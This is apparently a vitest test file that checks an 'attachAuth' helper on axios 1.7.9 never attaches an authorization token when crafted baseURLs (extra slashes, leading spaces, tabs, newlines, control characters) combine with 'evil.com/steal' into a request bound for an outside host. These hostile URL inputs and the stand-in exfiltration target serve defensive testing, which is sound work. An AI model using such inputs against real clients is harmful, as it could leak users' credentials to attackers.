// @vitest-environment happy-dom
// @vitest-environment-options {"url": "https://app.example.com/dashboard/"}
/**
 * attachAuth on axios 1.7.9 (inside the peer range), whose join of a relative baseURL and a url
 * strips at most two trailing slashes from the baseURL (axios 1.21 strips them all): baseURL `///`
 * with url `evil.com/steal` goes to `//evil.com/steal`, which browsers send to https://evil.com.
 * A predicate in `origins` saw the URL joined as axios 1.21 joins it, `/evil.com/steal`, on the page.
 */
import { expect, it, vi } from 'vitest'
import { whereItGoes } from './support/whereItGoes'

vi.mock('axios', () => import('axios17'))

const { default: axios } = await import('axios')
const send = whereItGoes(axios, (await import('../src')).attachAuth)

it('runs on axios 1.7.9', () => expect(axios.VERSION).toBe('1.7.9'))

// The URL parser strips leading spaces and C0 controls and drops tabs and newlines: `' ///'` is `///`.
// After a scheme, slashes alone name no host either: joined, the url becomes one.
for (const baseURL of [
  '///',
  '////',
  ' ///',
  '\t///',
  '/\n//',
  '\x01///',
  'https:///',
  ' https:///',
  'http:///',
])
  for (const origins of [
    undefined,
    ['https://app.example.com'],
    (u: URL) => u.origin === 'https://app.example.com',
  ])
    it(`no token when baseURL ${JSON.stringify(baseURL)} + url "evil.com/steal" leaves the page (origins: ${origins ?? 'default'})`, async () => {
      const seen = await send(baseURL, 'evil.com/steal', origins)
      expect(seen.origin).toBe(baseURL.startsWith('http:') ? 'http://evil.com' : 'https://evil.com')
      expect(seen.authorization).toBeNull()
    })
